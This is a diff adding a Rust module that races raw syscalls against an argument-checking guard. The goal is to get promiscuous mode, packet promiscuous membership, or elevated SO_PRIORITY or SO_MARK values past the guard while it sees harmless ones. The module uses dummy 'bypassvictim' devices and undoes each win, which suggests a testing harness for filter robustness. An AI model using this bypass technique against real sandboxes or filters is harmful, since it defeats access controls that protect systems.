@@ -1,0 +1,183 @@
+//! What is raced on: a call, the word that decides, and how a win shows.
+
+use std::io;
+use std::os::fd::{AsFd as _, AsRawFd as _, OwnedFd};
+
+use super::Try;
+use super::arena::Arena;
+use crate::attack::abi::{Number, call};
+use crate::attack::ioctl::{self, Family};
+use crate::attack::packet::packet_socket;
+use crate::attack::sockopt::udp_socket;
+use crate::attack::{Abi, IFF_PROMISC, IFF_UP, SocketOption, index_of};
+use crate::device::promiscuity;
+use crate::make;
+
+const SIOCSIFFLAGS: usize = 0x8914;
+const PACKET_ADD_MEMBERSHIP: usize = 1;
+const PACKET_MR_PROMISC: u32 = 1;
+const PACKET_MR_ALLMULTI: u32 = 2;
+
+/// A racy call.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub enum Target {
+    /// `ifr_flags` of `SIOCSIFFLAGS`: `IFF_PROMISC` comes and goes.
+    Flags,
+    /// `mr_type` of `PACKET_ADD_MEMBERSHIP`: promiscuous, or all multicast.
+    Membership,
+    /// The value of `SO_PRIORITY`: 7 or 5.
+    Priority,
+    /// The value of `SO_MARK`: 13 or 12, for a guard with a set of values.
+    Mark,
+}
+
+impl Target {
+    /// All of them.
+    pub const ALL: [Self; 4] = [Self::Flags, Self::Membership, Self::Priority, Self::Mark];
+
+    /// The name for people.
+    pub fn name(self) -> &'static str {
+        match self {
+            Self::Flags => "SIOCSIFFLAGS",
+            Self::Membership => "PACKET_ADD_MEMBERSHIP",
+            Self::Priority => "SO_PRIORITY",
+            Self::Mark => "SO_MARK",
+        }
+    }
+
+    /// The harmless word, and the other.
+    pub fn words(self) -> [u32; 2] {
+        match self {
+            Self::Flags => [IFF_UP, IFF_UP | IFF_PROMISC],
+            Self::Membership => [PACKET_MR_ALLMULTI, PACKET_MR_PROMISC],
+            Self::Priority => [5, 7],
+            Self::Mark => [12, 13],
+        }
+    }
+
+    /// Whether the struct has something before the word, at which the kernel's
+    /// copy can be held up.
+    pub fn can_be_stalled(self) -> bool {
+        matches!(self, Self::Flags | Self::Membership)
+    }
+
+    fn option(self) -> Option<SocketOption> {
+        match self {
+            Self::Priority => Some(SocketOption::Priority),
+            Self::Mark => Some(SocketOption::Mark),
+            _ => None,
+        }
+    }
+}
+
+/// One attacker's own device or socket, and the struct that it hands over.
+#[derive(Debug)]
+pub struct Attacker {
+    target: Target,
+    device: String,
+    socket: OwnedFd,
+    /// The struct.
+    pub arena: Arena,
+}
+
+impl Attacker {
+    /// Makes what the call is about. Devices end with [`Attacker::remove`].
+    pub fn new(target: Target, number: usize) -> io::Result<Self> {
+        let device = format!("bypassvictim{number}");
+        let (socket, before) = match target {
+            Target::Flags => {
+                make::dummy(&device)?;
+                let request = ioctl::Request::about(&device)?;
+                (Family::Inet.socket()?, request.bytes()[..16].to_vec())
+            }
+            Target::Membership => {
+                make::dummy(&device)?;
+                let index = index_of(&device)?.to_ne_bytes();
+                (packet_socket()?, index.to_vec())
+            }
+            Target::Priority | Target::Mark => (udp_socket()?, Vec::new()),
+        };
+        Ok(Self {
+            target,
+            device,
+            socket,
+            arena: Arena::new(&before)?,
+        })
+    }
+
+    /// Makes the call once, and looks what has come of it.
+    pub fn attempt(&mut self) -> io::Result<Try> {
+        match self.call() {
+            Ok(()) => self.look(),
+            Err(error) => match error.raw_os_error() {
+                Some(libc::EPERM | libc::EACCES) => Ok(Try::Refused),
+                _ => Err(error),
+            },
+        }
+    }
+
+    fn call(&self) -> io::Result<()> {
+        let fd = self.socket.as_raw_fd().cast_unsigned() as usize;
+        let address = self.arena.address();
+        let option =
+            |level: i32, name: usize, len| [fd, level.cast_unsigned() as usize, name, address, len];
+        let (number, arguments) = match self.target {
+            Target::Flags => (Number::IOCTL, [fd, SIOCSIFFLAGS, address, 0, 0]),
+            Target::Membership => (
+                Number::SETSOCKOPT,
+                option(libc::SOL_PACKET, PACKET_ADD_MEMBERSHIP, 16),
+            ),
+            Target::Priority => (
+                Number::SETSOCKOPT,
+                option(libc::SOL_SOCKET, libc::SO_PRIORITY as usize, 4),
+            ),
+            Target::Mark => (
+                Number::SETSOCKOPT,
+                option(libc::SOL_SOCKET, libc::SO_MARK as usize, 4),
+            ),
+        };
+        // SAFETY: the arena is longer than each of these structs.
+        unsafe { call(Abi::Native, number, arguments) }.map(drop)
+    }
+
+    /// Looks from outside, and undoes what a win has done.
+    fn look(&mut self) -> io::Result<Try> {
+        let won = match self.target {
+            Target::Flags => {
+                let won = ioctl::flags(&self.device)? & IFF_PROMISC != 0;
+                if won {
+                    ioctl::set_flags(Family::Inet, &self.device, IFF_UP)?;
+                }
+                won
+            }
+            Target::Membership => {
+                let won = promiscuity(&self.device)? > 0;
+                // The membership ends with its socket.
+                self.socket = packet_socket()?;
+                won
+            }
+            Target::Priority | Target::Mark => self.look_at_option()?,
+        };
+        Ok(if won { Try::Won } else { Try::Passed })
+    }
+
+    fn look_at_option(&self) -> io::Result<bool> {
+        let Some(option) = self.target.option() else {
+            return Ok(false);
+        };
+        let [harmless, other] = self.target.words().map(u32::cast_signed);
+        let won = option.get(self.socket.as_fd())? == other;
+        if won {
+            option.set(self.socket.as_fd(), harmless)?;
+        }
+        Ok(won)
+    }
+
+    /// Removes its device.
+    pub fn remove(&self) -> io::Result<()> {
+        match self.target {
+            Target::Flags | Target::Membership => crate::attack::link::delete(&self.device),
+            _ => Ok(()),
+        }
+    }
+}
